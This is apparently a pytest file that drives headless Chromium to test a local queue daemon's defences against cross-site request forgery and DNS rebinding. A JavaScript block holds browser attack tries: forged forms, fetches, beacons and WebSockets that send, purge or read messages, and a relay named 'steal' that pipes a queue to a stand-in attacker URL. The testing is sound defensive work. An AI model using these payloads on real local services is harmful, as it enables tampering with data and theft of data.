"""Pages that a real browser shows, and a daemon without credentials on the same machine.

Chromium is told that evil.example and queues.example are at 127.0.0.1, as rebound names would be. A page is loaded from
a small server; where it must be of one origin with the daemon, the daemon takes over the server's port afterwards: from
then on the page asks the daemon itself, over connections of the browser, and the address behind its name has never
changed.

Skipped where there is no Chromium: Ubuntu has it as a snap only, which may not use folders under /tmp."""

import contextlib
import http.server
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import threading

import pytest
from conftest import PATIENCE, free_port, wait_until

CHROMIUM = shutil.which("chromium")
IS_SNAP = CHROMIUM is not None and "snap" in pathlib.Path(CHROMIUM).resolve().parts
pytestmark = pytest.mark.skipif(CHROMIUM is None or IS_SNAP,
                                reason="there is no Chromium that is no snap: ./setup test")

SECRET = "the secret of a message"
QUEUE = "/000000000000/q"

# What a page tries, each with a name. `base` is where the daemon is. A try answers what it could read.
TRIES = """
const json = { "Content-Type": "application/x-amz-json-1.0" };
async function read(answer) { return [answer.type, answer.status, await answer.text()]; }
function ask(url, more) { return fetch(url, more).then(read); }
function action(target, body) {
  return ask(base + "/", { method: "POST", headers: { ...json, "X-Amz-Target": target }, body: JSON.stringify(body) });
}
function element(name, field, url) {
  return new Promise(resolve => {
    const one = document.createElement(name);
    one.onload = () => resolve("loaded");
    one.onerror = () => resolve("failed");
    one[field] = url;
    document.body.append(one);
  });
}
function form(url, type, fields, method = "POST") {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "f" + document.querySelectorAll("iframe").length;
    const one = document.createElement("form");
    Object.assign(one, { action: url, method, enctype: type, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name, value });
      one.append(input);
    }
    document.body.append(frame, one);
    one.submit();
    setTimeout(resolve, 400, "sent");
  });
}
function socket(url) {
  return new Promise(resolve => {
    const one = new WebSocket(url);
    one.onopen = () => resolve("open");
    one.onerror = () => resolve("failed");
  });
}
const queue = base + "/000000000000/q";
const purge = queue + "?Action=PurgeQueue";
const signature = "&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-SignedHeaders=host&X-Amz-Signature=0";
const sent = { Action: "SendMessage", MessageBody: "evil" };
const tries = {
  "image": () => element("img", "src", purge),
  "image, signed": () => element("img", "src", purge + signature),
  "script": () => element("script", "src", base + "/metrics"),
  "frame": () => element("iframe", "src", base + "/?Action=ListQueues"),
  "frame of the dashboard": () => element("iframe", "src", base + "/ui/"),
  "script of the dashboard": () => element("script", "src", base + "/ui/main.js"),
  "fetch of the dashboard": () => ask(base + "/ui/config"),
  "frame of /metrics": () => element("iframe", "src", base + "/metrics"),
  "form": () => form(queue, "application/x-www-form-urlencoded", sent),
  "form, text": () => form(queue + "?Action=SendMessage&MessageBody=evil", "text/plain", { a: "b" }),
  "form, parts": () => form(queue + "?Action=CreateQueue&QueueName=evil", "multipart/form-data", { a: "b" }),
  "form, GET": () => form(queue, "", { ...sent, "X-Amz-Signature": "0" }, "GET"),
  "fetch, blind": () => ask(queue, { method: "POST", mode: "no-cors", body: new URLSearchParams(sent) }),
  "fetch, text": () => ask(base + "/?Action=CreateQueue&QueueName=evil", {
    method: "POST", mode: "no-cors", body: "a" }),
  "fetch, GET": () => ask(queue + "?Action=ReceiveMessage" + signature, { mode: "no-cors" }),
  "fetch, GET, alike": () => ask(queue + "?Action=ReceiveMessage" + signature),
  "fetch, redirected": () => ask(control + "/redirect?" + encodeURIComponent(purge), {
    method: "POST", mode: "no-cors", body: "" }),
  "fetch, no referrer": () => ask(purge, { method: "POST", mode: "no-cors", body: "", referrerPolicy: "no-referrer" }),
  "fetch of /health": () => ask(base + "/health"),
  "fetch of /metrics": () => ask(base + "/metrics"),
  "list": () => ask(base + "/?Action=ListQueues"),
  "list queues": () => action("AmazonSQS.ListQueues", {}),
  "receive": () => action("AmazonSQS.ReceiveMessage", { QueueUrl: "q" }),
  "send": () => action("AmazonSQS.SendMessage", { QueueUrl: "q", MessageBody: "evil" }),
  "purge": () => action("AmazonSQS.PurgeQueue", { QueueUrl: "q" }),
  "relay": () => action("Tally.CreateRelay", {
    RelayName: "steal", Source: { Type: "queue", QueueUrl: "q" }, Sink: { Type: "http", Url: control + "/steal" } }),
  "beacon": async () => navigator.sendBeacon(purge, new URLSearchParams(sent)),
  "socket": () => socket(purge.replace("http", "ws")),
};
async function run(names) {
  const told = {};
  for (const name of names ?? Object.keys(tries))
    told[name] = await Promise.race([
      tries[name]().catch(error => String(error)),
      new Promise(resolve => setTimeout(resolve, 1500, "no answer")),
    ]);
  await fetch(control + "/told?" + location.hostname, { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
}
"""

PAGE = """<!DOCTYPE html><meta charset="utf-8"><body><script>
const control = %(control)s, names = %(names)s;
const base = %(base)s ?? location.origin;
%(tries)s
fetch(control + "/wait").then(() => run(names));
</script></body>"""


class Site:
    """A small web server: pages by their paths; /wait answers once go() was called; what pages tell is in .told."""

    def __init__(self, port=0):
        site = self
        self.pages = {}
        self.told = {}
        self.loaded = []
        self.gone_on = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self, status, body=b"", **headers):
                self.send_response(status)
                self.send_header("Access-Control-Allow-Origin", "*")
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                if self.path == "/wait":
                    site.loaded.append(self.headers.get("Origin"))
                    site.gone_on.wait(60 * PATIENCE)
                    self.answer(200)
                elif self.path in site.pages:
                    self.answer(200, site.pages[self.path].encode(), **{"Content-Type": "text/html; charset=utf-8"})
                else:
                    self.answer(404)

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                path, _, query = self.path.partition("?")
                if path == "/told":
                    site.told[query] = json.loads(body)
                    self.answer(200)
                elif path == "/redirect":
                    import urllib.parse

                    self.answer(307, Location=urllib.parse.unquote(query))
                else:
                    site.told["/steal"] = body.decode()
                    self.answer(404)

            def log_message(self, *_):
                pass

        class Server(http.server.ThreadingHTTPServer):
            def get_request(self):
                accepted = super().get_request()
                site.lines.append(accepted[0])
                return accepted

        self.lines = []
        self.server = Server(("127.0.0.1", port), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self.thread.start()

    def close(self):
        """Also those connections that a browser has made and not used yet."""
        self.server.shutdown()
        self.server.server_close()
        for line in self.lines:
            with contextlib.suppress(OSError):
                line.shutdown(socket.SHUT_RDWR)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.gone_on.set()
        self.close()


@contextlib.contextmanager
def browser(folder, url):
    command = [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-dev-shm-usage",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP queues.example 127.0.0.1",
        "--remote-debugging-port=0",  # or it would end when the page is loaded
        f"--user-data-dir={folder / 'chromium'}", url,
    ]
    with open(folder / "chromium.err", "wb") as errors:
        process = subprocess.Popen(command, stdout=errors, stderr=errors, start_new_session=True)
    try:
        yield process
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        shutil.rmtree(folder / "chromium", ignore_errors=True)


def frames(urls):
    return "".join(f'<iframe src="{url}"></iframe>' for url in urls)


def page(control, base=None, names=None):
    return PAGE % {"control": json.dumps(f"http://evil.example:{control.port}"), "names": json.dumps(names),
                   "base": json.dumps(base),
                   "tries": TRIES}


def with_secret(daemon):
    assert daemon.call("AmazonSQS.CreateQueue", {"QueueName": "q"})[0] == 200
    assert daemon.call("AmazonSQS.SendMessage", {"QueueUrl": "q", "MessageBody": SECRET})[0] == 200
    return daemon


def requests_seen(daemon):
    _, _, text = daemon.request("GET", "/metrics")
    return next(int(line.split()[1])
                for line in text.decode().splitlines() if line.startswith("tally_http_requests_total "))


def assert_is_untouched(daemon):
    asked = {"QueueUrl": "q", "AttributeNames": ["All"]}
    counts = daemon.call("AmazonSQS.GetQueueAttributes", asked)[1]["Attributes"]
    assert counts["ApproximateNumberOfMessages"] == "1", "a page sent or purged"
    assert counts["ApproximateNumberOfMessagesNotVisible"] == "0", "a page received"
    urls = daemon.call("AmazonSQS.ListQueues")[1]["QueueUrls"]
    assert [url.rsplit("/", 1)[1] for url in urls] == ["q"]
    assert daemon.call("Tally.ListRelays")[1]["Relays"] == []
    (message,) = daemon.call("AmazonSQS.ReceiveMessage", {"QueueUrl": "q"})[1]["Messages"]
    assert message["Body"] == SECRET


def assert_learned_nothing(told):
    """A page reads no answer but refusals, and those only where it is of one origin."""
    assert len(told) > 20, told
    for name, answer in told.items():
        text = json.dumps(answer)
        assert SECRET not in text and "QueueUrl" not in text and "tally_" not in text and '"ok"' not in text, (name,
            text)
        assert answer != "open", name
        if isinstance(answer, list):
            assert answer[:2] in (["opaque", 0], ["basic", 403]), (name, text)


def test_pages_of_other_sites_change_and_learn_nothing(daemon, tmp_path):
    """Of another site, and of another port of localhost."""
    with_secret(daemon)
    before = requests_seen(daemon)
    with Site() as control:
        control.pages["/attack"] = page(control, f"http://127.0.0.1:{daemon.port}")
        control.pages["/beside"] = page(control, f"http://localhost:{daemon.port}")
        urls = [f"http://evil.example:{control.port}/attack", f"http://localhost:{control.port}/beside"]
        control.pages["/"] = frames(urls)
        control.gone_on.set()
        with browser(tmp_path, f"http://evil.example:{control.port}/"):
            wait_until(lambda: len(control.told) == 2, 40, f"what the pages tell ({control.told.keys()})")
    for told in control.told.values():
        assert_learned_nothing(told)
    assert requests_seen(daemon) - before > 2 * 20, "the browser has not even tried"
    assert_is_untouched(daemon)


def test_a_page_of_one_origin_with_the_daemon_is_obeyed_only_under_a_name_of_its_own(daemon_factory, tmp_path):
    """evil.example is rebound; names under localhost are the daemon's, and queues.example because it is allowed."""
    daemon = with_secret(daemon_factory("--allow-host", "queues.example").start())
    daemon.stop()
    reading = ["fetch of /health", "fetch of /metrics", "list", "list queues"]
    hosts = {"evil.example": None, "tally.localhost": reading, "127.0.0.1": reading, "queues.example": reading}
    with Site() as control, Site(daemon.port) as before:
        for host, names in hosts.items():
            before.pages[f"/{host}"] = page(control, names=names)
        control.pages["/"] = frames(f"http://{host}:{daemon.port}/{host}" for host in hosts)
        with browser(tmp_path, f"http://evil.example:{control.port}/"):
            wait_until(lambda: len(control.loaded) == len(hosts), 40, f"the pages ({control.loaded})")
            before.close()
            daemon.start()
            control.gone_on.set()
            wait_until(lambda: len(control.told) == len(hosts), 40, f"what the pages tell ({control.told.keys()})")
    rebound = control.told.pop("evil.example")
    assert_learned_nothing(rebound)
    kind, status, text = rebound["receive"]
    assert (kind, status) == ("basic",
        403) and f"Host 'evil.example:{daemon.port}'" in text and "--allow-host evil.example" in text
    for host, told in control.told.items():
        for name, (kind, status, text) in told.items():
            assert (kind, status) == ("basic", 200), (host, name, text)
        assert f"http://{host}:{daemon.port}{QUEUE}" in told["list queues"][2]
    assert_is_untouched(daemon)
    assert daemon.stop() == 0
